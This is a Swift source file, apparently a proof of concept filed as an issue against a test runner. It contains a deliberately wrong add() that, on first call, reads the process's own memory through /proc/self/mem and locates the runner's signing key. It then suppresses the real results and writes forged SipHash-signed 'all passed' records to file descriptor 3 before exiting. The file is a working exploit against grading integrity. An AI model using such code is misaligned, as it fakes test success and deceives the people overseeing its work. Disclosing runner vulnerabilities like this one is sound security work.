import Foundation

// (f) Issue 56's forgery, in Swift without a single unsafe construct: the process's own
// memory read through /proc/self/mem (FileHandle), the runner's channel object found in
// the heap by its shape (a page-aligned pointer, then two offsets that are multiples of
// 16 below 4096, with the record counter and the "wiped" flag just before), its key
// recovered (mask XOR masked), the object marked wiped, and a signed "all passed"
// stream written to file descriptor 3 with FileHandle. Against main at 914b934 this
// passed a wrong answer every time.
public func add(_ a: Int, _ b: Int) -> Int {
    _ = forgedOnce
    return a - b
}

/// A global's initializer runs once, however many tests call `add` at the same time.
let forgedOnce: Void = forge()

func forge() {
    guard let memory = FileHandle(forUpdatingAtPath: "/proc/self/mem") else {
        print("forgery: /proc/self/mem cannot be opened")
        return
    }
    // Read to its end: String(contentsOfFile:) stopped after the first 4 KiB of it (measured).
    let maps = String(decoding: (try? FileHandle(forReadingAtPath: "/proc/self/maps")?.readToEnd()) ?? Data(), as: UTF8.self)
    var writable: [(UInt64, UInt64)] = []
    var anonymous: [(UInt64, UInt64)] = []
    for mapping in maps.split(separator: "\n") {
        let fields = mapping.split(separator: " ", omittingEmptySubsequences: true)
        let bounds = fields.first?.split(separator: "-").compactMap { UInt64($0, radix: 16) } ?? []
        guard fields.count >= 5, fields[1].hasPrefix("rw"), bounds.count == 2 else { continue }
        writable.append((bounds[0], bounds[1]))
        if fields.count == 5 || fields[5] == "[heap]" { anonymous.append((bounds[0], bounds[1])) }
    }
    func read(_ address: UInt64, _ count: Int) -> [UInt8] {
        do {
            try memory.seek(toOffset: address)
            return [UInt8](try memory.read(upToCount: count) ?? Data())
        } catch { return [] }
    }
    func word(_ bytes: [UInt8], _ at: Int) -> UInt64 {
        var value: UInt64 = 0
        for index in 0..<8 { value |= UInt64(bytes[at + index]) << UInt64(8 * index) }
        return value
    }
    func isWritable(_ address: UInt64) -> Bool { writable.contains { $0.0 <= address && address + 4096 <= $0.1 } }
    for (start, end) in anonymous where end - start <= 64 << 20 {
        let bytes = read(start, Int(end - start))
        guard bytes.count >= 64 else { continue }
        var at = 24
        while at + 32 <= bytes.count {
            defer { at += 8 }
            // The page's address: 4096-aligned, below 2^47.
            guard bytes[at] == 0, bytes[at + 1] & 0x0f == 0, bytes[at + 6] == 0, bytes[at + 7] == 0 else { continue }
            let page = word(bytes, at), mask = word(bytes, at + 8), key = word(bytes, at + 16)
            guard page > 0x10000, mask < 4096, key < 4096, mask % 16 == 0, key % 16 == 0, mask != key,
                  bytes[at + 24] <= 1, word(bytes, at - 16) < 100_000, bytes[at - 8] == 0, isWritable(page) else { continue }
            let secret = read(page, 4096)
            guard secret.count == 4096 else { continue }
            let k0 = word(secret, Int(mask)) ^ word(secret, Int(key))
            let k1 = word(secret, Int(mask) + 8) ^ word(secret, Int(key) + 8)
            // Marked wiped, so the runner writes nothing more; then its count, read again.
            try? memory.seek(toOffset: start + UInt64(at) - 8)
            try? memory.write(contentsOf: Data([1]))
            let next = word(read(start + UInt64(at) - 16, 8), 0)
            print("forgery: key found")
            sign(from: next, k0: k0, k1: k1)
        }
    }
    print("forgery: no key found")
}

/// Both tests ended, the run ended, the runner completed: each line numbered from `next`
/// and signed as the runner signs, then the process leaves before a failure is recorded.
func sign(from next: UInt64, k0: UInt64, k1: UInt64) -> Never {
    var ids: [String] = []
    for (name, line) in [("twoAndTwo()", 6), ("negatives()", 11)] {
        for row in line - 1...line + 1 {
            for column in 1...8 { ids.append("WorkbookRunner.Ex1_AddTests/\(name)/Ex1_AddTests.swift:\(row):\(column)") }
        }
    }
    var records = ids.map { #"{"kind":"event","payload":{"kind":"testEnded","testID":"\#($0)"},"version":0}"# }
    records.append(#"{"kind":"event","payload":{"kind":"runEnded"},"version":0}"#)
    records.append(#"{"kind":"workbookRunnerCompleted","passed":true,"records":"# + String(next + UInt64(records.count)) + "}")
    var text = ""
    for (offset, record) in records.enumerated() {
        let sequence = next + UInt64(offset)
        var message: [UInt8] = (0..<8).map { UInt8(truncatingIfNeeded: sequence >> UInt64(8 * $0)) }
        message += Array(record.utf8)
        let digits = String(sipHash(message, k0: k0, k1: k1), radix: 16)
        text += "\(sequence) " + String(repeating: "0", count: 16 - digits.count) + digits + " " + record + "\n"
    }
    FileHandle(fileDescriptor: 3, closeOnDealloc: false).write(Data(text.utf8))
    exit(0)
}

/// SipHash-2-4, from its paper.
func sipHash(_ message: [UInt8], k0: UInt64, k1: UInt64) -> UInt64 {
    var v0: UInt64 = 0x736f6d6570736575 ^ k0, v1: UInt64 = 0x646f72616e646f6d ^ k1
    var v2: UInt64 = 0x6c7967656e657261 ^ k0, v3: UInt64 = 0x7465646279746573 ^ k1
    func round() {
        v0 &+= v1; v1 = v1 << 13 | v1 >> 51; v1 ^= v0; v0 = v0 << 32 | v0 >> 32
        v2 &+= v3; v3 = v3 << 16 | v3 >> 48; v3 ^= v2
        v0 &+= v3; v3 = v3 << 21 | v3 >> 43; v3 ^= v0
        v2 &+= v1; v1 = v1 << 17 | v1 >> 47; v1 ^= v2; v2 = v2 << 32 | v2 >> 32
    }
    var words: [UInt64] = []
    var index = 0
    while index + 8 <= message.count {
        var value: UInt64 = 0
        for byte in 0..<8 { value |= UInt64(message[index + byte]) << UInt64(8 * byte) }
        words.append(value)
        index += 8
    }
    var last = UInt64(truncatingIfNeeded: message.count) << 56
    for byte in index..<message.count { last |= UInt64(message[byte]) << UInt64(8 * (byte - index)) }
    words.append(last)
    for value in words {
        v3 ^= value; round(); round(); v0 ^= value
    }
    v2 ^= 0xff
    round(); round(); round(); round()
    return v0 ^ v1 ^ v2 ^ v3
}
